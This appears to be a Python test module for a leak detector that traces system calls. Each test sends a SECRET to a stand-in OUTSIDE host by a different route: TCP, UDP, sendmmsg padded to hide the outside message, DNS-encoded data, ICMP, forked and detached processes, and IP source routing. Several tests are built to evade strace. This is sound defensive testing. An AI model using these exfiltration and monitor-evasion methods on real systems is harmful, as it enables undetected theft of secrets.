"""Leaving by an Internet socket."""

import ctypes
import os
import socket
import struct
import subprocess
import sys
import threading
from pathlib import Path

from tests.tracing.leaks import FAIL, FULL_PORT, INCONCLUSIVE, NOWHERE, OUTSIDE, OUTSIDE6, PORT, SECRET
from tests.tracing.leaks import attempt, attempted, leak, wait_until
from tests.tracing.leaks.syscalls import libc, mmsghdr, syscall, vector

TCP_FASTOPEN_CONNECT = 30
IPPROTO_MPTCP = 262
CODE = f"import socket; socket.create_connection(({OUTSIDE!r}, {PORT})).sendall({SECRET!r})"


def tcp(family: int = socket.AF_INET) -> socket.socket:
    return socket.socket(family, socket.SOCK_STREAM)


def udp(family: int = socket.AF_INET) -> socket.socket:
    return socket.socket(family, socket.SOCK_DGRAM)


def sockaddr(host: str, port: int) -> bytes:
    return struct.pack("=HH4s8x", socket.AF_INET, socket.htons(port), socket.inet_aton(host))


def connect_and_send() -> None:
    with attempt(), tcp() as s:
        s.connect((OUTSIDE, PORT))
        s.sendall(SECRET)


@leak(FAIL, arrives=True)
def tcp4() -> None:
    connect_and_send()


@leak(FAIL, arrives=True)
def tcp6() -> None:
    with attempt(), tcp(socket.AF_INET6) as s:
        s.connect((OUTSIDE6, PORT))
        s.sendall(SECRET)


@leak(FAIL, arrives=True)
def tcp_v4_mapped() -> None:
    with attempt(), tcp(socket.AF_INET6) as s:
        s.connect((f"::ffff:{OUTSIDE}", PORT))
        s.sendall(SECRET)


@leak(FAIL)
def tcp_unreachable() -> None:
    with attempt(), tcp() as s:
        s.connect((NOWHERE, 443))


@leak(FAIL)
def tcp_nonblocking() -> None:
    with attempt(), tcp() as s:
        s.setblocking(False)
        s.connect((OUTSIDE, FULL_PORT))


@leak(FAIL, arrives=True)
def mptcp() -> None:
    with attempt(), socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP) as s:
        s.connect((OUTSIDE, PORT))
        s.sendall(SECRET)


@leak(FAIL, arrives=True)
def udp_connected() -> None:
    with attempt(), udp() as s:
        s.connect((OUTSIDE, PORT))
        s.send(SECRET)


@leak(FAIL, arrives=True)
def udp_written() -> None:
    """write(2), which the profile does not trace."""
    with attempt(), udp() as s:
        s.connect((OUTSIDE, PORT))
        os.write(s.fileno(), SECRET)


@leak(FAIL, arrives=True)
def udp_bound_then_connected() -> None:
    """strace goes on showing the socket without a peer."""
    with attempt(), udp() as s:
        s.bind(("0.0.0.0", 0))
        s.connect((OUTSIDE, PORT))
        s.send(SECRET)


@leak(FAIL, arrives=True)
def udp_sendto() -> None:
    with attempt(), udp() as s:
        s.sendto(SECRET, (OUTSIDE, PORT))


@leak(FAIL, arrives=True)
def udp6_sendto() -> None:
    with attempt(), udp(socket.AF_INET6) as s:
        s.sendto(SECRET, (OUTSIDE6, PORT))


@leak(FAIL, arrives=True)
def udp_sendmsg() -> None:
    with attempt(), udp() as s:
        s.sendmsg([SECRET], [], 0, (OUTSIDE, PORT))


def sendmmsg(s: socket.socket, addresses: list[tuple[str, int]]) -> None:
    """One call, a message to each address."""
    data, keep = vector(SECRET)
    names = [ctypes.create_string_buffer(sockaddr(host, port), 16) for host, port in addresses]
    messages = (mmsghdr * len(names))()
    for message, name in zip(messages, names):
        header = message.header
        header.name, header.name_length = ctypes.addressof(name), 16
        header.vector, header.vector_length = ctypes.pointer(data), 1
    syscall("sendmmsg", s.fileno(), ctypes.byref(messages), len(messages), 0)


def sendmmsg_after_own(n_own: int) -> None:
    with udp() as own, udp() as s:
        own.bind(("127.0.0.1", 0))
        with attempt():
            sendmmsg(s, [own.getsockname()] * n_own + [(OUTSIDE, PORT)])


@leak(FAIL, arrives=True)
def sendmmsg_second() -> None:
    sendmmsg_after_own(1)


@leak(INCONCLUSIVE, arrives=True)
def sendmmsg_hidden() -> None:
    """More messages than strace shows, the last to another host."""
    sendmmsg_after_own(150)


@leak(FAIL)
def fast_open() -> None:
    with attempt(), tcp() as s:
        s.sendto(SECRET, socket.MSG_FASTOPEN, (OUTSIDE, PORT))


@leak(FAIL)
def fast_open_connect() -> None:
    with attempt(), tcp() as s:
        s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
        s.connect((OUTSIDE, PORT))
        s.send(SECRET)


@leak(FAIL)
def resolver() -> None:
    with attempt():
        socket.getaddrinfo(f"{SECRET[4:11].decode()}.example.org", 443)


@leak(FAIL)
def dns_query() -> None:
    with attempt(), udp() as s:
        s.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\7weights\7example\3org\0\0\1\0\1", (OUTSIDE, 53))


@leak(FAIL)
def broadcast() -> None:
    with attempt(), udp() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(SECRET, ("255.255.255.255", PORT))


@leak(FAIL)
def multicast_send() -> None:
    with attempt(), udp() as s:
        s.sendto(SECRET, ("239.1.2.3", PORT))


@leak(FAIL)
def multicast_join() -> None:
    with attempt(), udp() as s:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                     socket.inet_aton("239.1.2.3") + socket.inet_aton("127.0.0.1"))


@leak(FAIL)
def multicast_join6() -> None:
    with attempt(), udp(socket.AF_INET6) as s:
        group = socket.inet_pton(socket.AF_INET6, "ff02::99") + struct.pack("=I", 1)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, group)


@leak(FAIL)
def ping() -> None:
    with attempt(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.sendto(b"\x08\0\0\0\0\0\0\0" + SECRET, (OUTSIDE, 0))


@leak(INCONCLUSIVE)
def bad_pointer() -> None:
    """An address that strace cannot read."""
    with attempt(), tcp() as s:
        libc.connect(s.fileno(), ctypes.c_void_p(8), 16)


# Processes and threads

@leak(FAIL, arrives=True)
def thread() -> None:
    worker = threading.Thread(target=connect_and_send)
    worker.start()
    worker.join()


@leak(FAIL, arrives=True)
def forked_child() -> None:
    pid = os.fork()
    if pid == 0:
        connect_and_send()
        os._exit(0)
    os.waitpid(pid, 0)


@leak(FAIL, arrives=True)
def grandchild() -> None:
    """Forked twice, in a session of its own; its parent ends first."""
    if os.fork():
        os.wait()
        return
    os.setsid()
    if os.fork() == 0:
        wait_until(lambda: os.getppid() != os.getsid(0), "the parent's end")
        connect_and_send()
    os._exit(0)


@leak(FAIL, arrives=True)
def spawned() -> None:
    """vfork and execve."""
    subprocess.run([sys.executable, "-I", "-S", "-c", CODE], check=True)
    attempted()


def connecting() -> bool:
    """Whether there is a socket in the state SYN_SENT."""
    return f":{FULL_PORT:04X} 02 " in Path("/proc/self/net/tcp").read_text()


@leak(FAIL)
def last_instant() -> None:
    """A connect that still blocks when the process ends."""
    threading.Thread(target=tcp().connect, args=((OUTSIDE, FULL_PORT),), daemon=True).start()
    wait_until(connecting, "a connect to begin")
    attempted()
    os._exit(0)


# Options that send a packet elsewhere than its address says

LOOSE = bytes([0x83, 11, 4]) + socket.inet_aton(OUTSIDE) + socket.inet_aton("127.0.0.1") + b"\0"
TIME_TO_LIVE = (socket.IPPROTO_IP, socket.IP_TTL, struct.pack("i", 9))
ROUTE = (socket.IPPROTO_IP, socket.IP_RETOPTS, LOOSE)


@leak(FAIL)
def source_route() -> None:
    """To one's own socket, by way of another host."""
    with udp() as own, udp() as s:
        own.bind(("127.0.0.1", 0))
        with attempt():
            s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, LOOSE)
            s.sendto(SECRET, own.getsockname())


@leak(FAIL)
def source_route_of_one_message() -> None:
    with udp() as own, udp() as s:
        own.bind(("127.0.0.1", 0))
        with attempt():
            s.sendmsg([SECRET], [ROUTE], 0, own.getsockname())


@leak(FAIL)
def source_route_behind_others() -> None:
    """After many control messages."""
    with udp() as own, udp() as s:
        own.bind(("127.0.0.1", 0))
        with attempt():
            s.sendmsg([SECRET], [TIME_TO_LIVE] * 140 + [ROUTE], 0, own.getsockname())
